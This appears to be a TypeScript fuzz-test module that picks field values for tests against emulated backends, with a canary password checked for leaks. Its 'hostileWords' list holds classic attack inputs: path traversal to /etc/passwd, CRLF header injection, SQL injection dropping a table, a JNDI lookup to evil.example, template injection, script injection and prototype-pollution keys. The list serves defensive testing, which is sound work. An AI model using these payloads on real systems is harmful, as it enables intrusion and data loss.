import { canary } from '../canaries/canary.ts';
import { type BackendId, backendIds } from '../four-emulators.ts';
import { anyOf, type Dice } from './dice.ts';
import type { Pool } from './pool.ts';

/** Stands wherever a password belongs: no answer and no line of the log may hold it. */
export const password = canary('password of the fuzz', '"\\<é');

/** A text for the place of that name, on a backend as a rule: one that means something there, seldom one that means harm. */
export const wordFor = (
  dice: Dice,
  name: string,
  where: { readonly pool: Pool; readonly home: BackendId },
): string => {
  if (dice.chance(0.06)) return anyOf(dice, hostileWords);
  const { pool, home } = where;
  const native = pool.on[dice.chance(0.9) ? home : anyOf(dice, backendIds)];
  const choices = choicesByName[name]?.(pool, native, home) ?? names;
  return choices.length === 0 ? anyOf(dice, names) : anyOf(dice, choices);
};

type Choices = (pool: Pool, native: Pool['on'][BackendId], home: BackendId) => readonly string[];

const ofGlobalIds: Choices = ({ told }, { globalIds }) => [...globalIds, ...told.globalIds];
const ofBackends: Choices = (_pool, _native, home) => [home, home, home, 'nowhere'];

const choicesByName: Readonly<Record<string, Choices>> = {
  id: ofGlobalIds,
  ids: ofGlobalIds,
  plan: ofGlobalIds,
  run: ofGlobalIds,
  backend: ofBackends,
  backends: ofBackends,
  to: ofBackends,
  nativeId: (_pool, { accounts, nativeRoles, organizations, groups, others }) => [
    ...accounts,
    ...nativeRoles,
    ...organizations,
    ...groups,
    ...others,
  ],
  roles: ({ roles }) => roles,
  role: ({ roles }) => roles,
  grantingRole: ({ roles }) => roles,
  name: ({ roles }) => [...roles, 'Night shift', 'Ada'],
  nativeRoles: (_pool, { nativeRoles }) => nativeRoles,
  nativeRole: (_pool, { nativeRoles }) => nativeRoles,
  grantingNativeRole: (_pool, { nativeRoles }) => nativeRoles,
  organization: (_pool, { organizations }) => organizations,
  parent: (_pool, { organizations }) => organizations,
  group: (_pool, { groups }) => groups,
  groups: (_pool, { groups }) => groups,
  email: ({ emails }) => [...emails, 'new@example.com'],
  after: ({ told }) => told.cursors,
  digest: ({ told }) => told.digests,
  password: () => [password.secret],
  idempotencyKey: () => ['one', 'two', 'three'],
  filter: () => ['SELECT * FROM devices WHERE $provisioned = true'],
};

const names: readonly string[] = [
  'ada',
  'Grace',
  'x',
  'Told at the desk',
  'a b',
  '0',
  'true',
  'null',
  'Søren',
  '李',
];

/** Each has hurt some program once. */
export const hostileWords: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../../etc/passwd',
  '..%2f',
  'a/b?c#d',
  'a\r\nX-Admin: 1',
  'a\0b',
  '\ud800',
  'e\u0301',
  '\u202eabc',
  '\ufeff',
  '🦊'.repeat(50),
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'then',
  '.*',
  '^(a+)+$',
  "' or 1 eq 1",
  "'); drop table accounts; --",
  '%',
  '_',
  '\\',
  '"',
  '*',
  '$' + '{jndi:ldap://evil.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'x'.repeat(300),
  'x'.repeat(9000),
  'WyJBY2NvdW50Il0',
  'WyJBY2NvdW50IiwiaHViIiwiXHUwMDAwIl0',
  'eyJfX3Byb3RvX18iOnt9fQ',
  'bnVsbA',
  '[]',
  '1e400',
  'NaN',
];
